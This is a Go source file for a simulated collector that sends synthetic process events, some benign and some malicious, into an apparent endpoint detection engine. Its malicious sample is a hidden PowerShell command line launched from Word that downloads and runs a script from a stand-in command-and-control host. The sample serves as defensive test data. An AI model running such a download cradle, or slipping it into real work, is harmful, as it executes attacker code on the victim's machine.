package ingest

import (
	"context"
	"errors"
	"math/rand"
	"sync"
	"time"

	"sentinel/core"
	"sentinel/util/goroutine"

	"go.uber.org/zap"
)

const (
	benignImage       = `C:\Windows\System32\cmd.exe`
	benignCommandLine = `cmd.exe /c echo "Safe check"`
	benignParent      = `C:\Windows\explorer.exe`

	maliciousImage       = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	maliciousCommandLine = `powershell.exe -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://evil-c2.io/p.ps1')"`
	maliciousParent      = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
)

// Ingester accepts process events. The detection engine satisfies it.
type Ingester interface {
	Ingest(ctx context.Context, event *core.ProcessEvent) error
}

// SimulatorConfig controls the synthetic collector
type SimulatorConfig struct {
	Interval       time.Duration
	MaliciousRatio float64
	Host           string
	User           string
	// Seed fixes the random source; zero seeds from the clock.
	Seed int64
}

// Simulator periodically emits synthetic process events into an Ingester
type Simulator struct {
	ingester Ingester
	cfg      SimulatorConfig
	logger   *zap.SugaredLogger
	now      func() time.Time
	newID    core.IDGenerator

	randMu sync.Mutex
	rand   *rand.Rand

	mu      sync.Mutex
	cancel  context.CancelFunc
	wg      sync.WaitGroup
	emitted int
}

// NewSimulator creates a simulator that is not yet running
func NewSimulator(ingester Ingester, cfg SimulatorConfig, logger *zap.SugaredLogger) (*Simulator, error) {
	if ingester == nil {
		return nil, errors.New("simulator requires an ingester")
	}
	if cfg.Interval <= 0 {
		return nil, core.NewValidationError("interval", "must be positive")
	}
	if cfg.MaliciousRatio < 0 || cfg.MaliciousRatio > 1 {
		return nil, core.NewValidationError("malicious_ratio", "must be between 0 and 1")
	}
	if logger == nil {
		logger = zap.NewNop().Sugar()
	}
	seed := cfg.Seed
	if seed == 0 {
		seed = time.Now().UnixNano()
	}
	return &Simulator{
		ingester: ingester,
		cfg:      cfg,
		logger:   logger,
		now:      time.Now,
		newID:    core.NewEventID,
		rand:     rand.New(rand.NewSource(seed)),
	}, nil
}

// NextEvent builds one synthetic event. Roughly MaliciousRatio of the
// events carry the PowerShell download cradle launched from Word.
func (s *Simulator) NextEvent() *core.ProcessEvent {
	s.randMu.Lock()
	malicious := s.rand.Float64() < s.cfg.MaliciousRatio
	pid := s.rand.Intn(10000)
	ppid := s.rand.Intn(5000)
	s.randMu.Unlock()

	event := &core.ProcessEvent{
		ID:              s.newID(),
		Timestamp:       s.now().UTC(),
		Image:           benignImage,
		CommandLine:     benignCommandLine,
		ParentImage:     benignParent,
		ProcessID:       pid,
		ParentProcessID: ppid,
		User:            s.cfg.User,
		Host:            s.cfg.Host,
	}
	if malicious {
		event.Image = maliciousImage
		event.CommandLine = maliciousCommandLine
		event.ParentImage = maliciousParent
	}
	return event
}

// Tick emits a single event
func (s *Simulator) Tick(ctx context.Context) error {
	event := s.NextEvent()
	if err := s.ingester.Ingest(ctx, event); err != nil {
		return err
	}
	s.mu.Lock()
	s.emitted++
	s.mu.Unlock()
	return nil
}

// Emitted reports how many events were accepted by the ingester
func (s *Simulator) Emitted() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.emitted
}

// Start launches the ticker loop. Calling Start on a running simulator is a no-op.
func (s *Simulator) Start(ctx context.Context) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.cancel != nil {
		return
	}
	runCtx, cancel := context.WithCancel(ctx)
	s.cancel = cancel

	s.wg.Add(1)
	go func() {
		defer s.wg.Done()
		defer goroutine.Recover("collector-simulator", s.logger)
		s.run(runCtx)
	}()
	s.logger.Infow("Simulated collector started",
		"interval", s.cfg.Interval,
		"malicious_ratio", s.cfg.MaliciousRatio,
		"host", s.cfg.Host)
}

func (s *Simulator) run(ctx context.Context) {
	ticker := time.NewTicker(s.cfg.Interval)
	defer ticker.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
			if err := s.Tick(ctx); err != nil {
				if ctx.Err() != nil {
					return
				}
				s.logger.Warnw("Simulated event rejected", "error", err)
			}
		}
	}
}

// Stop halts the ticker loop and waits for an in-flight ingest to finish
func (s *Simulator) Stop() {
	s.mu.Lock()
	cancel := s.cancel
	s.cancel = nil
	s.mu.Unlock()
	if cancel == nil {
		return
	}
	cancel()
	s.wg.Wait()
	s.logger.Infow("Simulated collector stopped", "emitted", s.Emitted())
}
